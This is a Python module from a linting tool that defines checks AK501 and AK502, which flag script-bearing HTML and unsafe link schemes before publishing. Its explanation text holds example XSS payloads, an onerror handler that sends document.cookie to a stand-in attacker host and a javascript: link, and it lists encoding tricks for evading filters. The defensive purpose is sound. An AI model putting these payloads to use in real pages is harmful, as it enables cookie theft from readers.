"""5xx unsafe content: what the publishing sanitiser removes, HTML (AK501) and addresses (AK502).

AK503, secrets, is in secrets.py.
"""

from __future__ import annotations

from collections.abc import Iterator

from agreekit.checks.context import CheckContext
from agreekit.checks.family import Family
from agreekit.checks.removed_markup import removed_markup
from agreekit.finding import ERROR, Explanation, Finding, Rule
from agreekit.model.agreement import Agreement

FAMILY = Family()


AK501 = Rule(
    "AK501",
    "script-html",
    ERROR,
    summary="HTML the publishing sanitiser would remove (script, handlers, styles, frames).",
    hint="Remove the HTML; write Markdown (the message names the safe alternative).",
    explanation=Explanation(
        what=(
            "Renders each section and data value the way the site does (variables, tables, "
            "Markdown with attr_list and md_in_html) and reports every element or attribute "
            "the publishing sanitiser would remove, at the line it was written (or the line "
            "whose variable brought it): `<script>`, `<style>`, `<iframe>`, `<svg>`, forms, "
            "event handlers such as `onerror=` (also `<svg/onload=...>` and "
            "`{: onclick=... }`), `style=` other than text-align, ids starting with `__`. "
            "Character references are decoded first."
        ),
        why=(
            "The site is published from contributors' text; script in it would run in every "
            "reader's browser with the site's origin. The build removes it, so the published "
            "text would silently differ from the text that was approved: the check says so "
            "before the commit."
        ),
        example=(
            '<img src="logo.png" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">'
        ),
        fix=(
            "Remove the HTML and write Markdown: an image as ![description](file.png), "
            "emphasis with **bold**, a class with {: .name }; the message names the element "
            "or attribute and the safe alternative."
        ),
        fixed="![Logo](logo.png)",
    ),
)


@FAMILY.check(AK501)
def no_script_html(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
    """AK501"""
    for removed in removed_markup(agreement):
        if removed.code == "AK501":
            yield AK501.at(removed.location, removed.message)


AK502 = Rule(
    "AK502",
    "script-link",
    ERROR,
    summary=(
        "An address the sanitiser would remove: javascript:, data:, file: or another site's image."
    ),
    hint="Link to an https: address or a file in the repository.",
    explanation=Explanation(
        what=(
            "An address the publishing sanitiser would remove from a link or image: any "
            "scheme other than http, https, mailto and tel (`javascript:`, `vbscript:`, "
            "`data:`, `file:`), however it is spelt (`&#106;avascript:`, a tab or control "
            "character inside, a scheme from a variable), and images from another site."
        ),
        why=(
            "Such a link runs script or shows content disguised as part of the agreement "
            "when a reader clicks it; an image from another site tells that site who reads "
            "the agreement."
        ),
        example="[Service portal](javascript:alert(document.cookie))",
        fix=(
            "Link to an https address or a file in the repository; put images beside the section."
        ),
        fixed="[Service portal](https://support.brightwater-it.example)",
    ),
)


@FAMILY.check(AK502)
def no_script_links(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
    """AK502"""
    for removed in removed_markup(agreement):
        if removed.code == "AK502":
            yield AK502.at(removed.location, removed.message)
